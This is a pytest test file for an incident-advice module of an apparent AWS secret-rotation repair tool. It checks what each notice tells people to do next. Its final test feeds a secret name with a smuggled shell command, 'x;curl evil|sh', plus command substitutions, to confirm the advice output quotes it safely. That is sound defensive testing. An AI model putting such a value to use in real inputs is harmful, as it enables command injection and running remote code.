"""What a notice says is to be done next."""

import pytest

from handlers.domain.advice import advice
from handlers.domain.decisions import RULES, Action
from handlers.domain.facts import facts_of
from tests.handlers.turns import EXECUTION, NOT_LISTED, SETTLED, decided, held, incident

KEEP = "Do not clear AWSPENDING"
ROTATE = "aws secretsmanager rotate-secret --secret-id orders/db"
ESCALATING = [rule.name for rule in RULES if rule.action is Action.ESCALATE]


def advised(turn, **changes):
    error = changes.pop("error", None)
    return advice(facts_of(turn, EXECUTION, incident(**changes), error=error))


def escalated(rule, **changes):
    return advised("escalated", actions=[decided(rule)], **changes)


@pytest.mark.parametrize("rule", ESCALATING)
def test_every_rule_that_calls_a_human_says_something_of_its_own(rule):
    others = {escalated(other) for other in ESCALATING if other != rule}

    assert escalated(rule) not in others
    assert escalated(rule) != escalated("a rule that nobody knows") or rule == "retries used up"


@pytest.mark.parametrize(
    ("rule", "said"),
    [
        ("moved in vain", "mend the probe"),
        ("untouchable", "Repair it where it is rotated"),
        ("test only", "test again"),
        ("exhausted", "rotation-guard incidents show orders/db"),
        ("stopped", "rotation-guard remediation go"),
        ("orphaned", "rotation-guard incidents release orders/db"),
        ("notify", "rotation-guard:remediation=retry"),
        ("no AWSCURRENT", "Put AWSCURRENT on the version that works"),
        ("nothing works", "set the user's password to the value of AWSPENDING"),
        ("rotation off", "who switched its rotation off"),
        (
            "retries used up",
            f"Read the log of the rotation function at setSecret, mend what it says, and rotate: {ROTATE}",
        ),
    ],
)
def test_an_escalation_says_what_to_do_about_what_stopped_the_repair(rule, said):
    assert said in escalated(rule)


def test_a_broken_step_is_looked_for_in_the_execution():
    for broken in (
        advised("escalated", error="States.Timeout", actions=[decided("stopped")]),
        advised("escalated", reason="A step of the workflow failed for good: States.Timeout."),
    ):
        assert broken.startswith("Look in the execution for the step that failed")
        assert "go" not in broken.split()


@pytest.mark.parametrize("state", ["failed", "started", "wanted", "covered"])
def test_dependents_that_did_not_settle_are_the_next_thing_to_look_at(state):
    restarts = [SETTLED, {**SETTLED, "target": "lambda:api", "state": state}]

    said = advised("escalated", actions=[decided("moved")], restarts=restarts)

    assert "may run with the old value" in said


@pytest.mark.parametrize("call", ["RotateSecret", "UpdateSecretVersionStage"])
def test_a_refused_call_leads_to_permissions(call):
    actions = [decided("retry"), {"action": "retry", "number": 1, "outcome": f"{call} was refused: access denied."}]

    assert "rotationFunctions" in advised("escalated", actions=actions)


def test_a_call_that_was_refused_before_is_not_what_stopped_it_in_the_end():
    actions = [{"action": "retry", "outcome": "RotateSecret was refused: no."}, decided("orphaned")]

    assert "incidents release" in advised("escalated", actions=actions)


@pytest.mark.parametrize("rule", ESCALATING)
def test_a_reminder_says_what_the_escalation_said(rule):
    assert advised("reminder", actions=[decided(rule)]) == escalated(rule)


def test_what_is_resolved_asks_for_nothing():
    assert advised("resolved", actions=[decided("notify")]) == "No action required."


def test_a_lost_incident_leads_to_the_secret_and_to_who_deleted_its_row():
    said = advised("missing")

    assert "aws secretsmanager describe-secret --secret-id orders/db" in said
    assert "who deleted the row" in said


@pytest.mark.parametrize("turn", ["opened", "escalated", "held", "reminder"])
@pytest.mark.parametrize(
    ("step", "pending", "warned"),
    [
        (None, False, False),
        ("createSecret", False, False),
        ("createSecret", True, True),
        ("setSecret", False, True),
        ("testSecret", False, True),
        ("finishSecret", True, True),
    ],
)
def test_people_are_warned_of_clearing_what_may_be_the_live_password(turn, step, pending, warned):
    versions = {"v1": ["AWSCURRENT"], **({"v2": ["AWSPENDING"]} if pending else {})}

    assert (KEEP in advised(turn, failed_step=step, versions=versions)) is warned


@pytest.mark.parametrize(
    ("outcome", "said"),
    [
        ("recovered by AWS", "Nothing. If this comes back"),
        ("recovered by retry", "Nothing. If this comes back"),
        ("rolled forward", "Nothing is lost."),
        ("fallen back", "Find out before the next rotation"),
    ],
)
def test_what_is_over_asks_for_little(outcome, said):
    advice_given = advised("recovered", outcome=outcome)

    assert advice_given.startswith(said)
    assert KEEP not in advice_given


@pytest.mark.parametrize("turn", ["recovered", "restarted"])
def test_what_was_not_restarted_is_the_readers_to_restart(turn):
    said = advised(turn, outcome="rolled forward", restarts=[SETTLED, NOT_LISTED])

    assert said.endswith("Restart what was not restarted: lambda:api.")
    assert "Restart" not in advised(turn, outcome="rolled forward", restarts=[SETTLED])


def test_a_test_of_a_rotation_is_tested_again():
    assert "test again" in advised("opened", event_type="TestRotationFailed")


def test_held_incidents_say_how_to_go_on_and_how_to_raise_the_limit():
    one, many = advised("held"), advice(facts_of("held_burst", EXECUTION, {}, held=held(3)))

    assert ROTATE in one
    assert "--secret-id NAME" in many
    assert all("maxActionsPerHour" in said for said in (one, many))


def test_an_event_without_a_secret_leads_to_the_event():
    assert "whole event" in advice(facts_of("unidentified", EXECUTION, {}))


def test_a_command_survives_a_name_that_a_shell_would_run():
    said = escalated("orphaned", secret_name="x;curl evil|sh `id` $(id)")

    assert "release 'x;curl evil|sh `id` $(id)'" in said
